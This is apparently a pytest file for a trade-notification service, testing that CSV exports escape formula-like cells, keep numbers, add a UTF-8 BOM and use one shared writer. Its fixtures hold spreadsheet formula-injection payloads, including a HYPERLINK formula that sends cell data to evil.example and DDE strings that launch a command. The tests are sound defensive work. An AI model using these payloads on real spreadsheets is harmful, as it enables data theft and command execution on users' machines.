"""Every CSV the service writes: formula-like text neutralised, numbers kept, a UTF-8 BOM."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path

from warning.cli.main import main
from warning.safe_text import csv_text

HOSTILE_TITLES = {
    "G/TBT/N/KEN/1": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "G/TBT/N/KEN/2": "+1+cmd|' /C calc'!A0",
    "G/TBT/N/KEN/3": "-2+3",
    "G/TBT/N/KEN/4": "@SUM(1+1)*cmd|' /C calc'!A0",
    "G/TBT/N/KEN/5": "\t=1+1",
    "G/TBT/N/KEN/6": "\r=1+1",
    "G/TBT/N/KEN/7": "化妆品技术法规 cosmetics",
}


def test_csv_text_neutralises_text_cells_only() -> None:
    header = ("a", "b", "c", "d", "e", "f", "g", "h")
    row = {"a": -3, "b": -2.5, "c": "-3", "d": None, "e": "=1", "f": "\tx", "g": "\rx", "h": "@x"}
    text = csv_text(header, [row])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert rows == [list(header), ["-3", "-2.5", "'-3", "", "'=1", "'\tx", "'\rx", "'@x"]]


def test_exported_notifications_csv_is_safe_in_a_spreadsheet(
    tmp_path: Path, write_config: Callable[..., Path]
) -> None:
    lines = [
        json.dumps({"symbols": [symbol], "area": "TBT", "title": title, "hs_codes": ["330499"]})
        for symbol, title in HOSTILE_TITLES.items()
    ]
    (tmp_path / "hostile.jsonl").write_text("\n".join(lines) + "\n", encoding="utf-8")
    config = write_config('[[sources]]\nname = "hostile"\nkind = "file"\npath = "hostile.jsonl"\n')
    assert main(["--config", str(config), "collect"]) == 0
    out = tmp_path / "export.csv"
    assert main(["--config", str(config), "export", "notifications", "--format", "csv", "-o", str(out)]) == 0

    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")  # Excel then reads the file as UTF-8
    rows = {r["key"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""))}
    for symbol, title in HOSTILE_TITLES.items():
        stored = title.strip()  # sources strip text fields
        expected = "'" + stored if stored.startswith(("=", "+", "-", "@")) else stored
        assert rows[symbol]["title"] == expected
    for row in rows.values():
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)


def test_every_csv_writer_is_the_shared_one() -> None:
    """A new CSV export must go through ``warning.safe_text.csv_text``: no other
    module writes CSV itself (it would skip the neutralising and the BOM)."""
    root = Path(__file__).resolve().parents[2]
    writers = [
        str(path.relative_to(root))
        for folder in ("warning", "notifications", "feeds", "classifiers")
        for path in (root / folder).rglob("*.py")
        if "csv.writer(" in (text := path.read_text(encoding="utf-8")) or "csv.DictWriter(" in text
    ]
    assert writers == ["warning/safe_text.py"]
